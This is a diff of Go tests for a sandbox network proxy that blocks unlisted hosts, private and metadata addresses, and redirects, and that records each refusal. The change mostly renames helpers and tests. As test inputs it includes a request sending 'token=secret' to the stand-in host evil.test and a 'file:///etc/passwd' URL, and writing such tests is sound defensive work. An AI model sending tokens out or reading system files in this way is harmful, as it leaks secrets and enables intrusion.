@@ -42,7 +42,7 @@ func body(t *testing.T, r *http.Response) string {
 }
 
 func TestPlainRequestsPassUnchanged(t *testing.T) {
-	w := newWorld(t, nil)
+	w := newTestNetwork(t, nil)
 	var got *http.Request
 	w.serve("app.test", "9.9.9.9:80", http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
 		got = r
@@ -66,7 +66,7 @@ func TestPlainRequestsPassUnchanged(t *testing.T) {
 }
 
 func TestOneConnectionServesManyRequests(t *testing.T) {
-	w := newWorld(t, nil)
+	w := newTestNetwork(t, nil)
 	w.serve("app.test", "9.9.9.9:80", hello)
 	w.open(action.Network{Navigation: []string{"app.test"}})
 	browser := w.browser(nil)
@@ -83,16 +83,16 @@ func TestOneConnectionServesManyRequests(t *testing.T) {
 		}
 		_ = r.Body.Close()
 	}
-	w.door.mu.Lock()
-	clients := w.door.boxes["box"].clients
-	w.door.mu.Unlock()
+	w.proxy.mu.Lock()
+	clients := w.proxy.boxes["box"].clients
+	w.proxy.mu.Unlock()
 	if clients != 1 {
 		t.Errorf("%d connections were used, want 1", clients)
 	}
 }
 
-func TestRefusalsSayWhyAndAreKept(t *testing.T) {
-	w := newWorld(t, nil)
+func TestRefusalsHaveAReasonAndAreStored(t *testing.T) {
+	w := newTestNetwork(t, nil)
 	w.open(action.Network{Navigation: []string{"app.test"}})
 	r := w.exchange("GET http://evil.test/x?token=secret HTTP/1.1\r\nHost: evil.test\r\n\r\n")
 	if r.StatusCode != 403 || r.Header.Get("X-Glovebox-Refused") != string(notAllowed) || !strings.Contains(body(t, r), string(notAllowed)) {
@@ -100,7 +100,7 @@ func TestRefusalsSayWhyAndAreKept(t *testing.T) {
 	}
 	told := w.refused()
 	if told.Host != "evil.test" || told.URL != "http://evil.test/x" || told.Reason != string(notAllowed) || !told.Page || told.Time.IsZero() {
-		t.Errorf("told %+v", told)
+		t.Errorf("reported %+v", told)
 	}
 	_, r = w.tunnel("update.googleapis.com:443")
 	if r.StatusCode != 403 {
@@ -109,20 +109,20 @@ func TestRefusalsSayWhyAndAreKept(t *testing.T) {
 	if told := w.refused(); told.Page || told.Host != "update.googleapis.com" {
 		t.Errorf("the browser's own request counts as a page's: %+v", told)
 	}
-	if kept := w.door.Refusals("box"); len(kept) != 2 || kept[0].Host != "evil.test" {
+	if kept := w.proxy.Refusals("box"); len(kept) != 2 || kept[0].Host != "evil.test" {
 		t.Errorf("kept %+v", kept)
 	}
-	w.tunnel("connectivitycheck.gstatic.com:443") // what Chromium asks after a certificate that it does not accept
+	w.tunnel("connectivitycheck.gstatic.com:443") // Chromium requests this after a certificate that it rejects
 	if told := w.refused(); told.Page {
 		t.Errorf("the browser's own request counts as a page's: %+v", told)
 	}
-	if w.door.Refusals("other") != nil || len(w.dials()) != 0 {
-		t.Error("something else was kept or dialled")
+	if w.proxy.Refusals("other") != nil || len(w.dials()) != 0 {
+		t.Error("something else was stored or dialled")
 	}
 }
 
-func TestARefusedUploadStillReadsItsAnswer(t *testing.T) {
-	w := newWorld(t, nil)
+func TestTheClientOfARefusedUploadGetsTheAnswer(t *testing.T) {
+	w := newTestNetwork(t, nil)
 	w.open(action.Network{Navigation: []string{"app.test"}})
 	for range 20 {
 		conn := w.connect()
@@ -144,7 +144,7 @@ func TestARefusedUploadStillReadsItsAnswer(t *testing.T) {
 }
 
 func TestABoxWithoutRulesReachesNothing(t *testing.T) {
-	w := newWorld(t, nil)
+	w := newTestNetwork(t, nil)
 	w.serve("app.test", "9.9.9.9:80", hello)
 	r := w.exchange("GET http://app.test/ HTTP/1.1\r\nHost: app.test\r\n\r\n")
 	if r.StatusCode != 403 || r.Header.Get("X-Glovebox-Refused") != string(noRules) {
@@ -154,7 +154,7 @@ func TestABoxWithoutRulesReachesNothing(t *testing.T) {
 	if r := w.exchange("GET http://app.test/ HTTP/1.1\r\nHost: app.test\r\n\r\n"); r.StatusCode != 200 {
 		t.Errorf("%d after Open", r.StatusCode)
 	}
-	w.door.Close("box")
+	w.proxy.Close("box")
 	if r := w.exchange("GET http://app.test/ HTTP/1.1\r\nHost: app.test\r\n\r\n"); r.StatusCode != 403 {
 		t.Errorf("%d after Close", r.StatusCode)
 	}
@@ -165,7 +165,7 @@ func TestAnswersWithASpecialAddressAreRefused(t *testing.T) {
 		{"127.0.0.1"}, {"9.9.9.9", "10.0.0.1"}, {"9.9.9.9", "::1"}, {"169.254.169.254"}, {"::ffff:10.0.0.1"}, {"64:ff9b::7f00:1"},
 		{"2002:7f00:1::"}, {"0.0.0.0"}, {"5.5.5.5"}, {"9.9.9.9", "fd00::1"},
 	} {
-		w := newWorld(t, nil)
+		w := newTestNetwork(t, nil)
 		w.serve("app.test", "9.9.9.9:80", hello)
 		w.names["app.test"] = [][]string{answer}
 		w.open(action.Network{Navigation: []string{"app.test"}})
@@ -177,13 +177,13 @@ func TestAnswersWithASpecialAddressAreRefused(t *testing.T) {
 			t.Errorf("%v: CONNECT %d, dialled %v", answer, r.StatusCode, w.dials())
 		}
 		if told := w.refused(); told.Reason != string(specialAddress) && told.Reason != string(ownAddress) {
-			t.Errorf("%v: told %+v", answer, told)
+			t.Errorf("%v: reported %+v", answer, told)
 		}
 	}
 }
 
-func TestANameThatChangesItsAddressIsCheckedEachTime(t *testing.T) {
-	w := newWorld(t, nil)
+func TestEveryLookUpOfANameIsChecked(t *testing.T) {
+	w := newTestNetwork(t, nil)
 	w.serve("app.test", "9.9.9.9:80", http.HandlerFunc(func(rw http.ResponseWriter, _ *http.Request) { rw.Header().Set("Connection", "close") }))
 	w.names["app.test"] = [][]string{{"9.9.9.9"}, {"127.0.0.1"}}
 	w.open(action.Network{Navigation: []string{"app.test"}})
@@ -211,15 +211,15 @@ func TestDialConnectsOnlyToTheCheckedAddress(t *testing.T) {
 	_ = conn.Close()
 	none := &dialer{localAddresses: func() []netip.Addr { return nil }}
 	if err := none.check([]netip.Addr{netip.IPv4Unspecified()}, 80, false); err != specialAddress {
-		t.Errorf("0.0.0.0, which the kernel takes for loopback: %v, want %v", err, specialAddress)
+		t.Errorf("0.0.0.0, which the kernel treats as loopback: %v, want %v", err, specialAddress)
 	}
 	if err := none.check(make([]netip.Addr, maxAnswers+1), 80, true); err != specialAddress {
 		t.Errorf("an endless answer: %v, want %v", err, specialAddress)
 	}
 }
 
-func TestPrivateHostsPassOnlyWhereListed(t *testing.T) {
-	w := newWorld(t, func(o *Options) { o.Gateway = []netip.AddrPort{netip.MustParseAddrPort("127.0.0.1:2468")} })
+func TestPrivateHostsAreAllowedOnlyIfListed(t *testing.T) {
+	w := newTestNetwork(t, func(o *Options) { o.Gateway = []netip.AddrPort{netip.MustParseAddrPort("127.0.0.1:2468")} })
 	w.serve("dev.test", "10.1.2.3:3000", hello)
 	w.serve("localhost", "127.0.0.1:4000", hello)
 	w.open(action.Network{AllowPrivate: []string{"dev.test:3000", "localhost:4000", "localhost:2468", "0.0.0.0:2468"}})
@@ -231,8 +231,8 @@ func TestPrivateHostsPassOnlyWhereListed(t *testing.T) {
 	}
 }
 
-func TestHostsThatCannotBeReachedAreNoRefusal(t *testing.T) {
-	w := newWorld(t, nil)
+func TestUnreachableHostsAreNotReportedAsRefused(t *testing.T) {
+	w := newTestNetwork(t, nil)
 	w.names["down.test"] = [][]string{{"9.9.9.9"}}
 	w.open(action.Network{Navigation: []string{"*.test", "down.test"}})
 	for host, why := range map[string]failure{"down.test": unreachable, "nowhere.test": unknownHost} {
@@ -241,13 +241,13 @@ func TestHostsThatCannotBeReachedAreNoRefusal(t *testing.T) {
 			t.Errorf("%s: %d %v", host, r.StatusCode, r.Header)
 		}
 	}
-	if kept := w.door.Refusals("box"); len(kept) != 0 {
+	if kept := w.proxy.Refusals("box"); len(kept) != 0 {
 		t.Errorf("kept %v", kept)
 	}
 }
 
-func TestARedirectIsANewRequest(t *testing.T) {
-	w := newWorld(t, nil)
+func TestRedirectsAreCheckedAsNewRequests(t *testing.T) {
+	w := newTestNetwork(t, nil)
 	w.serve("app.test", "9.9.9.9:80", http.RedirectHandler("http://evil.test/", http.StatusFound))
 	w.serve("evil.test", "8.8.8.8:80", hello)
 	w.open(action.Network{Navigation: []string{"app.test"}})
@@ -265,7 +265,7 @@ func TestARedirectIsANewRequest(t *testing.T) {
 
 func TestLargeBodiesStreamBothWays(t *testing.T) {
 	const size = 24 << 20
-	w := newWorld(t, nil)
+	w := newTestNetwork(t, nil)
 	w.serve("app.test", "9.9.9.9:80", http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
 		sum := sha256.New()
 		_, _ = io.Copy(sum, r.Body)
@@ -289,7 +289,7 @@ func TestLargeBodiesStreamBothWays(t *testing.T) {
 }
 
 func TestEventsArriveAsTheyAreSent(t *testing.T) {
-	w := newWorld(t, nil)
+	w := newTestNetwork(t, nil)
 	next := make(chan struct{})
 	w.serve("app.test", "9.9.9.9:80", http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
 		for range 3 {
@@ -315,8 +315,8 @@ func TestEventsArriveAsTheyAreSent(t *testing.T) {
 	}
 }
 
-func TestAClientThatLeavesEndsItsRequest(t *testing.T) {
-	w := newWorld(t, nil)
+func TestARequestEndsWhenItsClientDisconnects(t *testing.T) {
+	w := newTestNetwork(t, nil)
 	began, ended := make(chan struct{}), make(chan struct{})
 	w.serve("app.test", "9.9.9.9:80", http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) {
 		close(began)
@@ -335,13 +335,13 @@ func wait(t *testing.T, c <-chan struct{}) {
 	t.Helper()
 	select {
 	case <-c:
-	case <-time.After(patience):
+	case <-time.After(testTimeout):
 		t.Fatal("it did not happen")
 	}
 }
 
-func TestTooManyConnectionsAreTurnedAway(t *testing.T) {
-	w := newWorld(t, nil)
+func TestTooManyConnectionsAreRefused(t *testing.T) {
+	w := newTestNetwork(t, nil)
 	for range maxClients {
 		w.connect()
 	}
@@ -351,29 +351,29 @@ func TestTooManyConnectionsAreTurnedAway(t *testing.T) {
 	}
 }
 
-func TestShutdownEndsWhatIsOpen(t *testing.T) {
-	w := newWorld(t, nil)
+func TestShutdownClosesOpenConnections(t *testing.T) {
+	w := newTestNetwork(t, nil)
 	w.open(action.Network{Navigation: []string{"app.test"}})
 	conn := w.connect()
-	if err := w.door.Shutdown(t.Context()); err != nil {
+	if err := w.proxy.Shutdown(t.Context()); err != nil {
 		t.Fatal(err)
 	}
 	if _, err := conn.Read(make([]byte, 1)); !errors.Is(err, io.EOF) && err == nil {
-		t.Error("a connection outlives the door")
+		t.Error("a connection is open after Shutdown")
 	}
 	if _, err := w.connect().Read(make([]byte, 1)); err == nil {
-		t.Error("a shut door takes connections")
+		t.Error("a connection is accepted after Shutdown")
 	}
-	if err := w.door.Open("box", action.Network{}); err == nil {
-		t.Error("a shut door opens")
+	if err := w.proxy.Open("box", action.Network{}); err == nil {
+		t.Error("Open works after Shutdown")
 	}
 	ctx, cancel := context.WithCancel(t.Context())
 	cancel()
-	_ = w.door.Shutdown(ctx)
+	_ = w.proxy.Shutdown(ctx)
 }
 
-func TestJudgeReadsAsTheDoorDoes(t *testing.T) {
-	w := newWorld(t, nil)
+func TestJudgeDecidesAsTheProxyDoes(t *testing.T) {
+	w := newTestNetwork(t, nil)
 	w.open(action.Network{Navigation: []string{"app.test", "127.0.0.1"}, Subresources: "any-public", AllowPrivate: []string{"localhost:3000"}})
 	for _, c := range []struct {
 		raw  string
@@ -391,11 +391,11 @@ func TestJudgeReadsAsTheDoorDoes(t *testing.T) {
 		{"file:///etc/passwd", action.Destination{Reason: string(badScheme)}},
 		{"https://", action.Destination{Reason: string(badURL)}},
 	} {
-		if got := w.door.Judge("box", c.raw); got != c.want {
+		if got := w.proxy.Judge("box", c.raw); got != c.want {
 			t.Errorf("%s: %+v, want %+v", c.raw, got, c.want)
 		}
 	}
-	if got := w.door.Judge("other", "https://app.test/"); got.Allowed || got.Reason != string(noRules) {
+	if got := w.proxy.Judge("other", "https://app.test/"); got.Allowed || got.Reason != string(noRules) {
 		t.Errorf("an unknown box: %+v", got)
 	}
 }
